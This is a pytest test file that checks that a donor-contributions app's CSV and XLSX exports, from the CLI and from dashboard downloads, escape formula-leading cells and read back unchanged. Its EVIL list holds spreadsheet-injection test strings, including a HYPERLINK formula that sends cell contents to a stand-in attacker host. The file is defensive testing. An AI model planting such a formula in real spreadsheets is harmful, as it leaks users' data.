"""Exports that cannot run: formula-leading cells neutralised, read back to the same value.

(Imports strip the whitespace around a cell, so a leading tab is checked by the unit test.)
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from ramstein.app import create_app
from ramstein.io.cells import csv_text, neutral, restored
from tests.conftest import Cli, Washington

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "'quoted already",
    "''=twice",
    "plain text",
]
HEADER = "id,donor,amount,currency,date,category,status,visibility,description"


def test_neutral_and_restored_are_inverse() -> None:
    for text in [*EVIL, "\tTAB", "\rCR", "", "'", "=", "a=b"]:
        assert restored(neutral(text)) == text
        assert not neutral(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.fixture
def evil_store(cli: Cli, tmp_path: Path, washington: Washington) -> Cli:
    washington(cli)
    # Written as any export writes them (neutralised), so the store holds EVIL exactly.
    rows = [
        dict(
            zip(
                HEADER.split(","),
                [
                    f"EVIL-{k}",
                    "DEU",
                    f"{k + 1}000000",
                    "EUR",
                    f"2025-02-0{k + 1}",
                    "in_kind",
                    "delivered",
                    "public",
                    text,
                ],
                strict=True,
            )
        )
        for k, text in enumerate(EVIL)
    ]
    source = tmp_path / "evil.csv"
    source.write_text(csv_text(HEADER.split(","), rows), encoding="utf-8")
    result = cli("import", "contributions", str(source))
    assert result.exit_code == 0, result.stderr
    return cli


def _exported_descriptions(cli: Cli, out: Path) -> dict[str, str]:
    assert cli("export", str(out)).exit_code == 0
    return {r["id"]: r["description"] for r in csv.DictReader(out.open(encoding="utf-8"))}


def test_cli_exports_neutralise_and_import_back_the_same(
    evil_store: Cli, tmp_path: Path, washington: Washington
) -> None:
    csv_file, xlsx_file = tmp_path / "out.csv", tmp_path / "out.xlsx"
    cells = _exported_descriptions(evil_store, csv_file)
    assert evil_store("export", str(xlsx_file)).exit_code == 0
    sheet = load_workbook(xlsx_file).worksheets[0]
    at = [c.value for c in sheet[1]].index("description")
    typed = {row[0].value: row[at] for row in sheet.iter_rows(min_row=2)}
    for k, text in enumerate(EVIL):
        written = cells[f"EVIL-{k}"]
        assert not written.startswith(("=", "+", "-", "@", "\t")), written
        assert typed[f"EVIL-{k}"].data_type == "s"  # text, never a formula
        assert restored(written) == text == restored(typed[f"EVIL-{k}"].value)
    # Each file imports into an empty store that then exports the very same cells.
    for exported in (csv_file, xlsx_file):
        fresh = Cli(f"sqlite:///{tmp_path / (exported.suffix[1:] + '.db')}")
        washington(fresh)
        assert fresh("import", "contributions", str(exported)).exit_code == 0
        again = _exported_descriptions(fresh, tmp_path / f"again-{exported.suffix[1:]}.csv")
        assert {k: v for k, v in again.items() if k.startswith("EVIL-")} == {
            f"EVIL-{k}": neutral(text) for k, text in enumerate(EVIL)
        }


def test_dashboard_downloads_neutralise(evil_store: Cli) -> None:
    with TestClient(create_app(evil_store.url)) as client:
        text = client.get("/ledger.csv", params={"donor": "DEU"}).text
        book = load_workbook(
            io.BytesIO(client.get("/ledger.xlsx", params={"donor": "DEU"}).content)
        )
    rows = list(csv.DictReader(io.StringIO(text)))
    described = {r["id"]: r for r in rows if r["id"].startswith("EVIL-")}
    assert len(described) == len(EVIL)
    for row in described.values():
        assert not any(v.startswith(("=", "+", "-", "@", "\t")) for v in row.values() if v)
    for row in book.worksheets[0].iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
